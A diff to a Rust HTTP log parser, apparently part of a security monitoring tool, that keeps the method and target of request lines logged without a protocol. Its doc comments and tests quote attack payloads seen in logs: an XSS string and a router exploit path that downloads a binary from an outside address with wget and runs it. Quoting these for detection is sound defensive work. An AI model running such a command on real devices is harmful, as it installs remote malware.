@@ -4,8 +4,8 @@ use std::borrow::Cow;
 
 use crate::batch::Str;
 
-/// A request line's parts: all three, or none and what was received instead (see
-/// [`request_line`]).
+/// A request line's parts: all three, the method and target of a line sent without a
+/// protocol, or none and what was received instead (see [`request_line`]).
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
 pub struct RequestLine<'a> {
     /// The method as logged (`GET`, or an odd `PATCHp`).
@@ -31,7 +31,9 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// version (`HTTP/1.2`) keeps them as logged; rules decide what is odd. A target with raw
 /// spaces (Apache and NGINX log the line as received; scanners send unencoded payloads such as
 /// `/x"><img src=N onerror=alert(1)>`) is everything between the method and the protocol, so
-/// the rules still see the payload.
+/// the rules still see the payload. Without a protocol, a target with raw spaces is what
+/// follows the method (the router exploits `/shell?cd+/tmp;wget+ 203.0.113.9/arm;sh+arm`,
+/// answered 400); a bare `GET /` stays no request (a line cut short).
 ///
 /// ```
 /// # use gatewatch_ingest::decode::request::request_line;
@@ -42,7 +44,9 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// assert_eq!(parts("\\x16\\x03\\x01"), (None, None, None));
 /// assert_eq!(parts("- - -"), (None, None, None));
 /// assert_eq!(parts("GET /"), (None, None, None));
-/// assert_eq!(parts("GET /a b"), (None, None, None));
+/// assert_eq!(parts("GET /a b"), (Some("GET"), Some("/a b"), None));
+/// assert_eq!(parts("GET /shell?cd+/tmp;wget+ 203.0.113.9/arm"), (Some("GET"), Some("/shell?cd+/tmp;wget+ 203.0.113.9/arm"), None));
+/// assert_eq!(parts("GET a b"), (None, None, None));
 /// assert_eq!(parts("GET  HTTP/1.1"), (None, None, None));
 /// let unparsed = |l| request_line(l).unparsed;
 /// assert_eq!(unparsed("\\x16\\x03\\x01\\x00"), Some("\\x16\\x03\\x01\\x00"));
@@ -62,9 +66,22 @@ pub fn request_line(line: &str) -> RequestLine<'_> {
     else {
         return no_request();
     };
+    let after_method = line.get(m.len() + 1..).unwrap_or("");
+    if !is_protocol(p) {
+        // No protocol: the raw spaces are the target's (a payload sent unencoded).
+        if is_method(m) && after_method.starts_with('/') && after_method.contains(' ') {
+            return RequestLine {
+                method: Some(m),
+                target: Some(after_method),
+                protocol: None,
+                unparsed: None,
+            };
+        }
+        return no_request();
+    }
     // The target lies between the first and the last space.
     let t = before_protocol.get(m.len() + 1..).unwrap_or("");
-    if t.trim().is_empty() || !is_method(m) || !is_protocol(p) {
+    if t.trim().is_empty() || !is_method(m) {
         return no_request();
     }
     RequestLine {
